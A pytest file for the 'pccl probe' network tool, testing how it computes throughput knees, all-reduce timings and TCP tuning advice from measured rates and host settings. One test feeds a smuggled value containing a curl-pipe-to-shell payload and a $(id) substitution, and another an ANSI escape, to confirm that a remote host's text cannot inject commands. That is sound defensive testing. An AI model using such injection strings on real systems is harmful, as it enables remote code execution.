"""The conclusions of `pccl probe`: the knee, seconds for a model, settings that help."""

from __future__ import annotations

import argparse
from collections.abc import Sequence
from dataclasses import replace
from pathlib import Path

import pytest

from pccl_backend.probe import advice, command, settings
from pccl_backend.probe.advice import MeasuredPath, Row
from pccl_backend.probe.client import ProbeError, Rate
from pccl_backend.probe.report import model_lines, setting_lines, summary
from pccl_backend.probe.settings import Buffers, HostSettings

BUFFERS = Buffers(least=4096, first=16384, most=4 << 20)
LARGE = Buffers(least=4096, first=16384, most=64 << 20)
TUNED = HostSettings(
    congestion="bbr",
    available=("reno", "cubic", "bbr"),
    allowed=("reno", "cubic", "bbr"),
    wmem=LARGE,
    rmem=LARGE,
    slow_start_after_idle=False,
)


def rows(*rates: float) -> list[Row]:
    return [Row(streams=2**i, there=rate, back=rate) for i, rate in enumerate(rates)]


def measured(*rates: float, **changes: object) -> MeasuredPath:
    known = MeasuredPath(rtt=0.1, rows=rows(*rates), here=TUNED, there=TUNED)
    return replace(known, **changes)  # type: ignore[arg-type]


def test_the_knee_is_the_fewest_that_carry_nine_tenths() -> None:
    assert advice.knee_of(rows(100, 190, 899, 900, 1000, 950)).streams == 8
    assert advice.knee_of(rows(100)).streams == 1
    assert advice.knee_of(list(reversed(rows(95, 100, 99)))).streams == 1


@pytest.mark.parametrize("rates", [(0.0,), (0.0, 900.0)])
def test_no_time_is_said_for_a_way_that_carried_nothing(rates: Sequence[float]) -> None:
    """On a local path pccl opens one connection: more streams do not count."""
    options = argparse.Namespace(seconds=0.5)
    with pytest.raises(ProbeError, match=r"nothing arrived over 1 stream in .* --seconds 2$"):
        command._report(measured(*rates, rtt=0.0001), options)


def test_what_counts_is_the_slower_direction_both_ways_at_once() -> None:
    row = Row(streams=1, there=900, back=800)
    assert row.carried == 800
    assert replace(row, both_there=500, both_back=600).carried == 500


def test_rates_become_rows() -> None:
    both = Rate(streams=2, direction="both", there=3, back=4, busy=0.7)
    rates = [
        Rate(streams=2, direction="there", there=1, back=None, busy=0.2),
        Rate(streams=2, direction="back", there=None, back=2, busy=0.1),
    ]
    expected = Row(streams=2, there=1, back=2, both_there=3, both_back=4, busy=0.7)
    assert advice.rows_of([*rates, both]) == [expected]
    assert advice.rows_of(rates) == [Row(streams=2, there=1, back=2, busy=0.2)]


def test_seconds_per_all_reduce() -> None:
    assert advice.seconds_per_all_reduce(4e9, 1000, 2) == pytest.approx(32)
    assert advice.seconds_per_all_reduce(4e9, 1000, 4) == pytest.approx(48)
    assert advice.seconds_per_all_reduce(4e9, 1000, None) == pytest.approx(64)
    text = "\n".join(model_lines(measured(500, 1000), 1e9, 4))
    assert "1,000,000,000 parameters, 4 bytes each: S = 4 GB" in text
    assert "2(N-1)/N * S / rate" in text
    assert "world 2: 32 s; N large: 64 s" in text


def test_a_tuned_pair_of_hosts_needs_nothing() -> None:
    assert advice.advise(measured(100, 200, 400)) == []
    text = "\n".join(summary(measured(100, 200, 400)))
    assert "PCCL_LANES needs no setting: pccl opens 64" in text
    assert "What may help" not in text


def test_lanes_that_are_asked_for_are_what_pccl_opens() -> None:
    few = measured(100, 200, 400, lanes_asked=2)
    assert few.usual.streams == 2
    assert "pccl opens 2 to each ring neighbour, as PCCL_LANES says" in "\n".join(summary(few))
    [text] = advice.advise(few)
    assert text == "lanes: PCCL_LANES is 2, and the knee is at 4 streams: unset it"
    [text] = advice.advise(measured(100, 200, 400, lanes_asked=2, rtt=1e-4))
    assert text.endswith("PCCL_LANES=4")


def test_which_congestion_control_was_measured() -> None:
    assert "The streams used reno," in "\n".join(summary(measured(100, congestion="reno")))
    assert "did not use bbr" in "\n".join(summary(measured(100, rtt=1e-4)))
    assert "bbr" not in "\n".join(summary(measured(100)))


def test_unknown_settings_give_no_advice() -> None:
    unknown = HostSettings()
    assert advice.advise(measured(100, 200, 400, here=unknown, there=unknown)) == []
    assert "unknown" in "\n".join(setting_lines(unknown, TUNED))


def test_small_buffers_are_named_with_the_line_to_type() -> None:
    small = replace(TUNED, wmem=BUFFERS)
    [text] = advice.advise(measured(100, 200, 400, 800, here=small))
    assert "tcp_wmem of this host ends at 4.0 MiB" in text
    assert "one stream carries about 168 Mbit/s" in text  # 2 MiB every 100 ms
    assert "9.5 MiB in flight" in text  # 800 Mbit/s times 100 ms
    assert 'sudo sysctl -w net.ipv4.tcp_wmem="4096 16384 33554432"' in text
    assert "pccl's 64 lanes make up for it" in text
    [text] = advice.advise(measured(100, 200, 400, 800, there=replace(TUNED, rmem=BUFFERS)))
    assert "tcp_rmem of the other host" in text
    [text] = advice.advise(measured(200, 400, 800, here=small))
    assert "one stream carries about 200 Mbit/s" in text, "what was measured is no less than that"


def test_what_is_true_of_both_hosts_is_said_once() -> None:
    small = replace(TUNED, wmem=BUFFERS, congestion="cubic", allowed=("reno", "cubic"))
    small = replace(small, slow_start_after_idle=True)
    texts = advice.advise(measured(100, 200, 400, 800, here=small, there=small))
    assert len(texts) == 3
    assert all("both hosts" in text for text in texts)


def test_buffers_are_held_against_the_direction_they_serve() -> None:
    fast_back = [Row(streams=1, there=10, back=100), Row(streams=2, there=20, back=2000)]
    small = replace(TUNED, wmem=BUFFERS)
    assert advice.advise(measured(rows=fast_back, here=small)) == []
    [text] = advice.advise(measured(rows=fast_back, there=small))
    assert "tcp_wmem of the other host" in text


def test_buffers_do_not_matter_where_one_stream_carries_all_or_the_path_is_local() -> None:
    small = replace(TUNED, wmem=BUFFERS)
    assert advice.advise(measured(790, 800, here=small)) == []
    assert advice.advise(measured(8000, 9000, here=small, rtt=1e-4)) == []


@pytest.mark.parametrize(
    ("available", "allowed", "says"),
    [
        (("cubic",), ("cubic",), "sudo modprobe tcp_bbr"),
        (("cubic", "bbr"), ("cubic",), 'tcp_allowed_congestion_control="cubic bbr"'),
        (("cubic", "bbr"), ("cubic", "bbr"), "measure with PCCL_TCP_CONGESTION=bbr"),
    ],
)
def test_congestion_control(
    available: tuple[str, ...], allowed: tuple[str, ...], says: str
) -> None:
    cubic = replace(TUNED, congestion="cubic", available=available, allowed=allowed)
    [text] = advice.advise(measured(100, 200, there=cubic))
    assert "congestion control of the other host: cubic" in text
    assert says in text
    assert advice.advise(measured(100, 200, there=cubic, congestion="bbr")) == []
    assert advice.advise(measured(100, 200, there=cubic, rtt=1e-4, rows=rows(100))) == []


def test_slow_start_after_idle_is_named_with_what_it_costs() -> None:
    anew = replace(TUNED, slow_start_after_idle=True)
    assert advice.advise(measured(1000, here=anew)) == []  # bbr is available instead
    [text] = advice.advise(measured(1000, here=replace(anew, allowed=("reno", "cubic"))))
    assert "this host" in text
    # 12.5 MB in transit are 8,633 segments: ten doublings of ten segments.
    assert "about 10 round trips (1 s)" in text
    assert "sudo sysctl -w net.ipv4.tcp_slow_start_after_idle=0" in text


def test_lanes_are_named_only_beyond_what_pccl_opens() -> None:
    assert advice.advise(measured(1, 2, 4, 8, 16, 32)) == []
    assert advice.advise(measured(1, 2, 4, 8, 16, 32, 64)) == []
    [text] = advice.advise(measured(1, 2, 4, 8, 16, 32, 64, 128))
    assert "the knee is at 128 streams" in text
    assert "PCCL_LANES=" not in text, "it goes no further than 64"
    [text] = advice.advise(measured(100, 200, rtt=1e-4))
    assert "PCCL_LANES=2" in text
    assert advice.advise(measured(100, 115, rtt=1e-4)) == [], "may be chance"


def test_a_busy_core_is_named() -> None:
    [text] = advice.advise(measured(rows=[replace(rows(100)[0], busy=0.97)]))
    assert "97 % of a core" in text


def test_settings_are_read_and_what_is_missing_is_unknown(tmp_path: Path) -> None:
    (tmp_path / "tcp_wmem").write_text("4096\t16384\t4194304\n")
    (tmp_path / "tcp_slow_start_after_idle").write_text("1\n")
    known = HostSettings.from_texts(settings.read(tmp_path))
    assert known == HostSettings(wmem=BUFFERS, slow_start_after_idle=True)
    assert HostSettings.from_texts(settings.read(tmp_path / "nowhere")) == HostSettings()


def test_words_of_another_host_cannot_become_commands() -> None:
    theirs = HostSettings.from_texts(
        {"tcp_allowed_congestion_control": 'cubic";curl${IFS}x.y|sh;" reno $(id) bbr'}
    )
    assert theirs.allowed == ("reno", "bbr")


def test_a_model_takes_what_pccl_opens_by_itself() -> None:
    local = measured(100, 1600, rtt=1e-4)
    [_, seconds] = model_lines(local, 1e9, 4)
    one = advice.seconds_per_all_reduce(4e9, local.rows[0].carried, 2)
    assert local.rows[0].carried < local.rows[1].carried
    assert f"world 2: {one:,.3g} s" in seconds


@pytest.mark.parametrize("texts", [None, [1], {"tcp_wmem": 3}, {"tcp_rmem": "1 2"}, {"x": "y"}])
def test_nonsense_is_unknown(texts: object) -> None:
    assert HostSettings.from_texts(texts) == HostSettings()


def test_what_the_other_host_says_cannot_steer_a_terminal() -> None:
    told = HostSettings.from_texts({"tcp_congestion_control": "\x1b[2Jcubic"})
    assert "\x1b" not in "\n".join(setting_lines(TUNED, told))
